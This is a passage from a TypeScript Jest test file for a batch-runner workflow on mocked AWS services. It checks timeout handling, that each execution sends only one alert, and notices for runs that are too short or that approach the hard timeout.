    const r = await runScenario(world.db, world.aws, { substitutions: { WaitChunkSeconds: '1', WaitChunkCount: '1' } });

    expect(r.error).toBe('BatchRunner.TimedOut');
    // One look is enough: the run does not wait out the stop window for a task ECS no longer knows.
    expect(callsTo(r, 'ConfirmTaskStopped')).toHaveLength(1);
    expect(world.aws.stopRequests.map((s) => s.task)).toEqual([world.aws.startedTasks[0]]);
    expect(r.lockItem).toBeUndefined();
    expect(alerts()).toHaveLength(1);
    expect(alerts()[0].Message).toContain('Task may still run: false');
  });
});

describe('one alert per execution', () => {
  test('the reconciler already recorded and sent this execution`s alert: the run sends no second one', async () => {
    world.aws.watch = { exitCode: 2 };
    let arn = '';
    const services = world.aws.services.bind(world.aws);
    world.aws.services = (dynamodb) => {
      const s = services(dynamodb);
      const watcher = s.functions[WATCHER_ARN];
      // While the task runs, the reconciler's sweep records (and delivers) this execution's alert.
      const functions = {
        ...s.functions,
        [WATCHER_ARN]: async (payload: Record<string, any>) => {
          arn = payload.executionArn;
          await world.db.client.send(
            new PutItemCommand({
              TableName: LOCK_TABLE,
              Item: { batch: { S: `alert#${arn}` }, state: { S: 'delivered' }, source: { S: 'reconciler' } },
            }),
          );
          return watcher(payload);
        },
      };
      return { ...s, functions };
    };

    const r = await runScenario(world.db, world.aws);

    expect(r.executionArn).toBe(arn);
    expect(r.status).toBe('FAILED');
    expect(r.error).toBe('BatchRunner.TaskFailed');
    expect(world.aws.published).toEqual([]);
    expect(r.lockItem).toBeUndefined();
  });
});

describe('duration guards (durationGuards)', () => {
  const notices = () => world.aws.published.filter((p) => p.MessageAttributes.severity.StringValue === 'notice');

  test('a run within both guards: no notice, the output carries the task run time', async () => {
    const r = await runScenario(world.db, world.aws, {
      batch: { durationGuards: { minDurationSeconds: 10, nearHardTimeoutShare: 0.5 } },
    });

    expect(r.status).toBe('SUCCEEDED');
    expect(r.statesEntered.slice(-5)).toEqual([
      'ReleaseLock',
      'HasDurationGuards',
      'CheckDuration',
      'PublishSucceededEvent',
      'RunSucceeded',
    ]);
    // The fixture's task runs from StartedAt to StoppedAt in 33.085 s.
    expect(r.output.task.durationSeconds).toBe(33);
    expect(r.output.task.durationNotice).toBeUndefined();
    expect(world.aws.published).toEqual([]);
  });

  test('a success faster than minDurationSeconds: one notice after the lock is released, in the output and the event', async () => {
    world.aws.watch = { exitCode: 0, runSeconds: 2 };
    const r = await runScenario(world.db, world.aws, { batch: { durationGuards: { minDurationSeconds: 30 } } });

    expect(r.status).toBe('SUCCEEDED');
    expect(r.output.outcome).toBe('succeeded');
    expect(r.statesEntered.slice(-7)).toEqual([
      'ReleaseLock',
      'HasDurationGuards',
      'CheckDuration',
      'RecordTooShort',
      'NotifyDuration',
      'PublishSucceededEvent',
      'RunSucceeded',
    ]);
    expect(r.lockItem).toBeUndefined();
    expect(r.output.task).toMatchObject({ durationSeconds: 2, durationNotice: { kind: 'tooShort' } });
    expect(r.output.task.durationNotice.message).toContain(
      'The task ran 2 s, less than durationGuards.minDurationSeconds (30 s)',
    );
    expect(world.aws.published).toHaveLength(1);
    expect(notices()).toHaveLength(1);
    expect(alerts()).toEqual([]);
    expect(world.aws.published[0].Subject).toBe(`[batch-runner] ${FAMILY} succeeded: tooShort`);
    expect(world.aws.published[0].Message).toContain('less than durationGuards.minDurationSeconds');
    expect(world.aws.published[0].MessageAttributes.outcome.StringValue).toBe('succeeded');
    const succeeded = world.aws.busEvents.find((e) => e.DetailType === 'Batch Run Succeeded');
    const detail = typeof succeeded!.Detail === 'string' ? JSON.parse(succeeded!.Detail) : succeeded!.Detail;
    expect(detail.task).toMatchObject({ durationSeconds: 2, durationNotice: { kind: 'tooShort' } });
  });

  test('a success above nearHardTimeoutShare of the hard timeout: one notice naming the threshold', async () => {
    world.aws.watch = { exitCode: 0, runSeconds: 3000 };
    const r = await runScenario(world.db, world.aws, { batch: { durationGuards: { nearHardTimeoutShare: 0.8 } } });

    expect(r.status).toBe('SUCCEEDED');
    expect(r.statesEntered).toContain('RecordNearHardTimeout');
    expect(r.statesEntered).not.toContain('RecordTooShort');
    expect(r.output.task).toMatchObject({ durationSeconds: 3000, durationNotice: { kind: 'nearHardTimeout' } });
    expect(notices()).toHaveLength(1);
    expect(world.aws.published[0].Message).toContain('(2880 s of 3600 s)');
  });

  test.each([
    ['exactly minDurationSeconds', 30, { minDurationSeconds: 30 }],
    ['exactly nearHardTimeoutShare of the hard timeout', 2880, { nearHardTimeoutShare: 0.8 }],
  ])('a success of %s is within the guards: no notice', async (_label, runSeconds, durationGuards) => {
    world.aws.watch = { exitCode: 0, runSeconds };
    const r = await runScenario(world.db, world.aws, { batch: { durationGuards } });

    expect(r.output.task.durationSeconds).toBe(runSeconds);
    expect(r.output.task.durationNotice).toBeUndefined();
    expect(world.aws.published).toEqual([]);
  });

  test('a success described without startedAt has no run time to compare: succeeded, no notice', async () => {
    world.aws.watch = { exitCode: 0, withoutStartedAt: true };
    const r = await runScenario(world.db, world.aws, { batch: { durationGuards: { minDurationSeconds: 30 } } });

    expect(r.output.outcome).toBe('succeeded');
    expect(r.output.task.durationSeconds ?? null).toBeNull();
    expect(world.aws.published).toEqual([]);
  });

  test('without durationGuards the run time is reported but never compared', async () => {
    world.aws.watch = { exitCode: 0, runSeconds: 1 };
    const r = await runScenario(world.db, world.aws, {});

    expect(r.output.task.durationSeconds).toBe(1);
    expect(r.statesEntered).toContain('HasDurationGuards');
    expect(r.statesEntered).not.toContain('CheckDuration');
    expect(world.aws.published).toEqual([]);
  });
});
